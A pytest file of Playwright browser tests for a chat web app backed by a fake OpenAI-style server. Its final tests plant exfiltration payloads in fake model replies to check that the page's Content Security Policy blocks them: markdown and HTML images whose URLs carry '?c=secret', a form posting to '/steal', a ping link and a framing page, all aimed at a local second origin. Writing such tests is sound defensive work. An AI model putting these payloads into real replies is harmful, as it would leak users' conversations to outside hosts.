"""The chat in a real Chromium, used as a person uses it.

Runs Debian's chromium (apt-get install chromium) through Playwright; Playwright's own
browser download is not needed. Without chromium they fail, saying how to install it
(or skip, with CHAT_TESTS_SKIP_MISSING=1).
"""

from __future__ import annotations

import base64
import contextlib
import http.server
import json
import re
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest

import preflight
from config import load_settings
from core.errors import NOTICE
from core.reply import CONTINUE
from testkit.browser import Chat, browser, expect, screenshots  # noqa: F401 - fixtures used here
from testkit.fake_openai import FakeOpenAI, Reply
from testkit.support import SENTINEL_KEY, launched, png, remote_settings

LONG_REPLY = "Hello there! " + " ".join(f"word{i}" for i in range(40))


@pytest.fixture
def chat(browser, app_url: str, server: FakeOpenAI) -> Iterator[Chat]:
    tab = Chat(browser, app_url)
    yield tab
    tab.close()
    assert tab.external_requests == []  # the page never reaches beyond loopback


def test_the_reply_grows_in_place_and_ends_with_what_the_server_sent(chat: Chat, server: FakeOpenAI):
    server.default = Reply(text=LONG_REPLY, delay=0.03)
    chat.send("Say hello")
    expect(chat.bots.last).to_have_text(LONG_REPLY)
    chat.wait_for_reply()
    texts = chat.bot_texts()
    *intermediate, final = texts
    assert final == LONG_REPLY
    assert len(intermediate) >= 3, texts
    assert all(LONG_REPLY.startswith(text) for text in intermediate)
    expect(chat.users).to_have_text(["Say hello"])


def test_stop_keeps_the_partial_reply_and_closes_the_upstream_stream(chat: Chat, server: FakeOpenAI):
    slow = "Hello there! " + " ".join(f"word{i}" for i in range(600))  # 60 s: Stop comes long before the end
    server.default = Reply(text=slow, delay=0.1)
    chat.send("Talk slowly")
    expect(chat.bots.last).to_contain_text("word3")
    chat.page.get_by_role("button", name="Stop").click()
    assert server.wait_for(lambda: server.closed_early, timeout=5)
    chat.wait_for_reply()
    partial = chat.bots.last.inner_text().strip()
    chat.page.wait_for_timeout(500)
    expect(chat.bots.last).to_have_text(partial)  # nothing more arrives
    assert slow.startswith(partial) and len(partial) < len(slow)

    server.default = Reply()
    chat.send("Are you there?")
    expect(chat.bots.last).to_have_text("Echo: Are you there?")
    assert [m["role"] for m in server.chat_requests[-1].body["messages"]] == ["system", "user", "assistant", "user"]


def test_a_provider_error_reads_clearly_and_retry_recovers(chat: Chat, server: FakeOpenAI):
    server.enqueue(Reply(status=500))
    chat.send("Hello?")
    expect(chat.bots.last).to_have_text(f"{NOTICE}The provider had a server error (500). Press retry in a moment.")
    chat.wait_for_reply()
    chat.page.get_by_role("button", name="Retry").click()
    expect(chat.bots).to_have_text(["Echo: Hello?"])
    expect(chat.users).to_have_text(["Hello?"])


def test_settings_change_what_the_provider_receives(chat: Chat, server: FakeOpenAI):
    chat.open_settings()
    system_prompt = chat.page.get_by_label("System prompt")
    system_prompt.fill("You are a pirate.")
    expect(system_prompt).to_have_value("You are a pirate.")
    chat.set_setting("Temperature", "1.3")
    chat.send("Ahoy")
    expect(chat.bots.last).to_have_text("Echo: Ahoy")
    body = server.chat_requests[-1].body
    assert body["messages"][0] == {"role": "system", "content": "You are a pirate."}
    assert body["temperature"] == 1.3


def test_undo_and_edit_work_as_gradio_documents(chat: Chat, server: FakeOpenAI):
    for message in ("first", "second"):
        chat.send(message)
        expect(chat.bots.last).to_have_text(f"Echo: {message}")
        chat.wait_for_reply()

    # Undo removes the last exchange and puts that message back in the textbox.
    chat.page.get_by_role("button", name="Undo").click()
    expect(chat.users).to_have_text(["first"])
    expect(chat.bots).to_have_text(["Echo: first"])
    expect(chat.textbox).to_have_value("second")

    # Editing a message replaces it, drops what followed, and asks again.
    chat.users.first.hover()
    chat.page.get_by_role("button", name="Edit").click()
    chat.page.locator("textarea.edit-textarea").fill("changed")
    chat.page.locator("button.icon-button[title=Submit]").click()  # the edit box's, not the textbox's
    expect(chat.bots).to_have_text(["Echo: changed"])
    expect(chat.users).to_have_text(["changed"])
    assert server.chat_requests[-1].body["messages"][1:] == [{"role": "user", "content": "changed"}]


def test_no_console_errors_and_the_key_never_reaches_the_page(chat: Chat, server: FakeOpenAI):
    # A provider that echoes the key in its error message, as some do.
    server.enqueue(Reply(status=401, error_message=f"Incorrect API key provided: {SENTINEL_KEY}"))
    chat.send("one")
    expect(chat.bots.last).to_contain_text("refused the API key")
    chat.wait_for_reply()
    chat.send("two")
    expect(chat.bots.last).to_have_text("Echo: one\n\ntwo")  # the unanswered question is asked again with it
    chat.wait_for_reply()
    assert server.chat_requests[-1].headers["authorization"] == f"Bearer {SENTINEL_KEY}"  # it was in use
    received = chat.everything_received()
    assert any("refused the API key" in text for text in received)  # the stream was captured...
    assert not [text for text in received if SENTINEL_KEY in text]  # ...and the key is nowhere
    assert chat.console_errors == []


@pytest.fixture(scope="module")
def local_app_url() -> Iterator[str]:
    with launched(load_settings([], {})) as url:  # no key, no URL: the embedded model
        yield url


def test_the_embedded_model_streams_in_the_browser_and_the_readme_screenshot(
    browser, local_app_url: str, screenshots: Path
):
    chat = Chat(browser, local_app_url)
    try:
        chat.open_settings()
        # Greedy decoding gives the same reply every run; these questions end on their own.
        for label, value in (("Temperature", "0"), ("Max tokens", "200")):
            chat.set_setting(label, value)
        chat.page.get_by_text("Model settings", exact=True).click()
        for question in ("What is 2 + 2?", "Name three colours of the rainbow."):
            chat.send(question)
            chat.wait_for_reply()
            texts = chat.bot_texts()
            assert len(texts) >= 2, texts  # it streamed
            assert texts[-1] and NOTICE not in texts[-1]
        chat.page.screenshot(path=screenshots / "screenshot.png", full_page=True)
        assert (screenshots / "screenshot.png").read_bytes().startswith(b"\x89PNG")
        assert chat.console_errors == [] and chat.external_requests == []
    finally:
        chat.close()


def test_empty_messages_are_refused_by_the_textbox_and_trimming_is_announced(browser, fake_server: FakeOpenAI):
    fake_server.reset()
    with launched(remote_settings(fake_server, max_history_chars=120)) as url:
        chat = Chat(browser, url)
        try:
            chat.textbox.fill("   ")
            chat.textbox.press("Enter")
            expect(chat.page.get_by_text("Type a message first.")).to_be_visible()
            expect(chat.users).to_have_count(0)
            assert fake_server.chat_requests == []

            for turn in range(3):
                chat.send(f"Message number {turn}, long enough to fill the budget.")
                chat.wait_for_reply()
            expect(chat.page.get_by_test_id("toast-text").last).to_contain_text("oldest messages were left out")
            expect(chat.users).to_have_count(3)  # the page keeps the whole conversation
            # Gradio answers a refused validation with HTTP 422, which Chromium logs; nothing else may be there.
            assert [e for e in chat.console_errors if "status of 422" not in e] == []
        finally:
            chat.close()


def test_thinking_folds_stats_sit_under_the_reply_and_continue_resumes_a_cut_reply(
    chat: Chat, server: FakeOpenAI, screenshots: Path
):
    server.enqueue(
        Reply(reasoning=[f"step {i}. " for i in range(8)], tokens=["The ", "answer ", "is ", "42."], delay=0.15)
    )
    chat.send("Think first")
    thinking = chat.folded("Thinking")
    expect(thinking).to_contain_text("step 0.")  # shown open while the model thinks
    expect(chat.bots.last).to_have_text("The answer is 42.", timeout=10_000)
    chat.wait_for_reply()
    expect(thinking).not_to_contain_text("step 0.")  # folded once the answer began
    thinking.get_by_text("Thinking").click()
    expect(thinking).to_contain_text("step 7.")  # and it opens on a click
    stats = chat.folded("Stats").last
    expect(stats).to_contain_text(re.compile(r"s to first token · [\d.]+ tokens/s · \d+ prompt \+ 12 completion"))
    chat.page.wait_for_timeout(500)  # the fold opens with an animation
    chat.page.screenshot(path=screenshots / "thinking-and-stats.png", full_page=True)

    server.enqueue(Reply(text="Once upon a", finish_reason="length"))
    chat.send("Tell a story")
    expect(chat.bots.last).to_contain_text("cut off at the max-tokens limit")
    chat.wait_for_reply()
    server.enqueue(Reply(text=" time, a fox."))
    chat.page.get_by_role("button", name="Continue").click()
    expect(chat.users.last).to_have_text(CONTINUE)
    expect(chat.bots.last).to_have_text(" time, a fox.".strip())
    assert server.chat_requests[-1].body["messages"][-2]["content"] == "Once upon a"
    assert chat.console_errors == []


@pytest.fixture(scope="module")
def picker_app_url(fake_server: FakeOpenAI) -> Iterator[str]:
    fake_server.reset()
    settings = remote_settings(fake_server)
    # In a thread: Playwright's sync API keeps an event loop on this one, and the check runs its own.
    with ThreadPoolExecutor(1) as pool:
        models = pool.submit(preflight.run, settings, stream=False).result().models
    with launched(settings, models) as url:
        yield url


def test_the_model_picker_switches_models_mid_conversation(browser, picker_app_url: str, fake_server: FakeOpenAI):
    fake_server.reset()
    chat = Chat(browser, picker_app_url)
    try:
        chat.send("first")
        expect(chat.bots.last).to_have_text("Echo: first")
        chat.wait_for_reply()
        chat.page.get_by_label("Model", exact=True).click()
        chat.page.get_by_role("option", name="fake-model-2").click()
        chat.send("second")
        expect(chat.bots.last).to_have_text("Echo: second")
        first, second = fake_server.chat_requests
        assert (first.body["model"], second.body["model"]) == ("fake-model", "fake-model-2")
        assert len(second.body["messages"]) == 4  # the conversation carried over
    finally:
        chat.close()


def test_export_downloads_both_files_and_import_restores_the_chat(browser, chat: Chat, server: FakeOpenAI, tmp_path):
    chat.send("Remember apples")
    expect(chat.bots.last).to_have_text("Echo: Remember apples")
    chat.wait_for_reply()
    chat.page.get_by_role("button", name="Export chat (Markdown + JSON)").click()
    link = chat.page.locator("a[href$='.json']")
    expect(chat.page.locator("a[href$='.md']")).to_be_visible()
    with chat.page.expect_download() as download:
        link.click()
    saved = tmp_path / "chat.json"
    download.value.save_as(saved)
    document = json.loads(saved.read_text(encoding="utf-8"))
    assert [m["content"] for m in document["messages"] if m["role"] == "user"] == ["Remember apples"]

    fresh = Chat(browser, chat.page.url)  # another visitor, empty chat
    try:
        with fresh.page.expect_file_chooser() as chooser:
            fresh.page.get_by_role("button", name="Import chat (JSON)").click()
        chooser.value.set_files(saved)
        expect(fresh.users).to_have_text(["Remember apples"])
        expect(fresh.bots).to_have_text(["Echo: Remember apples"])
        fresh.send("Which fruit?")
        expect(fresh.bots.last).to_have_text("Echo: Which fruit?")
        assert [m["content"] for m in server.chat_requests[-1].body["messages"][1:]] == [
            "Remember apples",
            "Echo: Remember apples",
            "Which fruit?",
        ]
        assert fresh.console_errors == []
    finally:
        fresh.close()


def test_an_attached_image_shows_in_the_chat_and_reaches_the_provider(chat: Chat, server: FakeOpenAI, tmp_path):
    picture = tmp_path / "red.png"
    data = png(picture)
    with chat.page.expect_file_chooser() as chooser:
        chat.page.get_by_role("button", name="Upload a file").click()
    chooser.value.set_files(picture)
    expect(chat.page.locator("img[alt='red.png'], img[src*='red.png']").first).to_be_visible()
    chat._bots_before = chat.bots.count()
    chat.textbox.fill("What colour?")
    chat.textbox.press("Enter")
    expect(chat.bots.last).to_have_text("Echo: What colour?")
    chat.wait_for_reply()
    expect(chat.users.locator("img").first).to_be_visible()  # the image is in the user's bubble
    parts = server.chat_requests[-1].body["messages"][-1]["content"]
    assert parts[1]["image_url"]["url"] == "data:image/png;base64," + base64.b64encode(data).decode()


def test_without_a_log_the_workbench_pages_say_what_turns_them_on(chat: Chat, app_url: str):
    for page in ("review", "compare"):
        chat.page.goto(app_url + page)
        expect(chat.page.locator("p")).to_contain_text("This page is off: start the app with --log-db chats.db")
        assert "Not Found" not in chat.page.content()
    chat.page.goto(app_url)
    expect(chat.textbox).to_be_editable(timeout=30_000)
    assert chat.page.get_by_role("navigation").count() == 0  # no navbar: there is nothing to go to


@contextlib.contextmanager
def another_origin(page: bytes = b"") -> Iterator[tuple[str, list[str]]]:
    """A second origin on loopback for the block: yields its URL and the requests it got ("GET /path"),
    answering each with `page` (HTML) or nothing."""
    hits: list[str] = []

    class Other(http.server.BaseHTTPRequestHandler):
        def _record(self) -> None:
            hits.append(f"{self.command} {self.path}")
            self.send_response(200 if page else 204)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(page)

        do_GET = do_POST = _record

        def log_message(self, *args) -> None:
            pass

    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Other)
    threading.Thread(target=other.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{other.server_address[1]}", hits
    finally:
        other.shutdown()
        other.server_close()


def test_a_reply_cannot_make_the_browser_contact_another_origin(chat: Chat, server: FakeOpenAI):
    """A remote image in a reply is the classic way to leak a conversation: the page must not fetch it."""
    with another_origin() as (origin, hits):
        server.enqueue(
            Reply(text=f"Here: ![chart]({origin}/md.png?c=secret) and <img src='{origin}/html.png?c=secret'>")
        )
        chat.send("Show me")
        expect(chat.bots.last).to_contain_text("Here:")
        chat.wait_for_reply()
        chat.page.wait_for_timeout(1000)  # time for any image to be requested
    assert hits == []
    assert any("Content Security Policy" in error for error in chat.console_errors)  # the page refused them


def test_a_reply_cannot_send_a_form_or_a_ping_to_another_origin_and_no_other_origin_frames_the_page(
    chat: Chat, server: FakeOpenAI, app_url: str
):
    framing_page = f"<iframe id=app src='{app_url}' width=800 height=600></iframe>".encode()
    with another_origin(framing_page) as (origin, hits):
        server.enqueue(
            Reply(
                text=f"<form action='{origin}/steal' method='post'><input name='c' value='secret'>"
                f"<button>Send it</button></form> <a href='#here' ping='{origin}/ping'>a link</a>"
            )
        )
        chat.send("Show me")
        expect(chat.bots.last).to_contain_text("a link")
        chat.wait_for_reply()
        # Clicked in the page: Playwright's own click would wait for the navigation the policy blocks.
        chat.bots.last.get_by_text("a link").evaluate("link => link.click()")
        for button in chat.bots.last.get_by_role("button", name="Send it").all():  # the form survives the sanitizer
            button.evaluate("button => button.click()")
        chat.page.wait_for_timeout(1000)
        assert hits == [], hits  # neither the form's POST nor the ping left the page
        assert chat.page.url.startswith(app_url)

        framing = chat.context.new_page()  # a page of another origin that frames the app: refused
        framing.goto(f"{origin}/frame")
        framing.wait_for_timeout(2000)
        [framed] = [frame for frame in framing.frames if frame is not framing.main_frame]
        assert not framed.url.startswith(app_url) or framed.locator("textarea").count() == 0
        framing.close()
    headers = httpx.get(app_url).headers
    assert "frame-ancestors 'self'" in headers["content-security-policy"]
    assert "form-action 'self'" in headers["content-security-policy"]
